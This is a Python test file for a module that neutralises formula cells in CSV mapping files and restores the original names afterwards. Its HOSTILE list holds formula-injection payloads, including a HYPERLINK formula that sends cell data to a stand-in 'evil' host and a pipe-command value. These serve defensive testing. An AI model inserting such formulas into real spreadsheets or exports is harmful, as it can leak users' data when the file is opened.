"""Mapping files and spreadsheets: formula cells made harmless, and the same names back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amc.formula import STARTS, guard, unguard
from amc.services.mapping_csv import MappingRow, read, write

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)", "+1", "-1+1", "|cmd", "%0A", "＝1+1", "－2",
    "'=1", "''=1", "'", "''", "'quoted", "'' =1", "=", "'@", "a=1", "Söhne – 50 %",
]  # fmt: skip


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_safe_file_runs_nothing_and_gives_the_same_names_back(name: str) -> None:
    row = MappingRow(2, "", "12345", name, name, (name.replace("|", ""), "x"))
    text = "".join(write([row]))
    for cell in cells(text)[1]:
        assert not cell or cell[0] not in STARTS
    found = read(text.encode())
    assert not found.bad
    assert found.rows == [row]


@given(st.text())
def test_taking_the_guard_off_gives_any_text_back(text: str) -> None:
    guarded = guard(text)
    assert not guarded or guarded[0] not in STARTS
    assert unguard(guarded) == text


def test_an_id_that_looks_like_a_formula_is_kept() -> None:
    (row,) = read("".join(write([MappingRow(2, "", "-12", "n", "", ())])).encode()).rows
    assert row.campaign_id == "-12"


def test_raw_is_the_exact_text() -> None:
    row = MappingRow(2, "", "1", "=1+1", "@b", ("+t",))
    assert cells("".join(write([row], raw=True)))[1] == ["", "1", "=1+1", "@b", "+t"]
    assert read("".join(write([row], raw=True)).encode()).rows == [row]


def test_an_apostrophe_that_guards_nothing_stays() -> None:
    found = read(b"campaign_id,name,brand\r\n'007,'Tis the season,'n'\r\n")
    assert [(r.campaign_id, r.name, r.brand) for r in found.rows] == [
        ("007", "'Tis the season", "'n'")
    ]
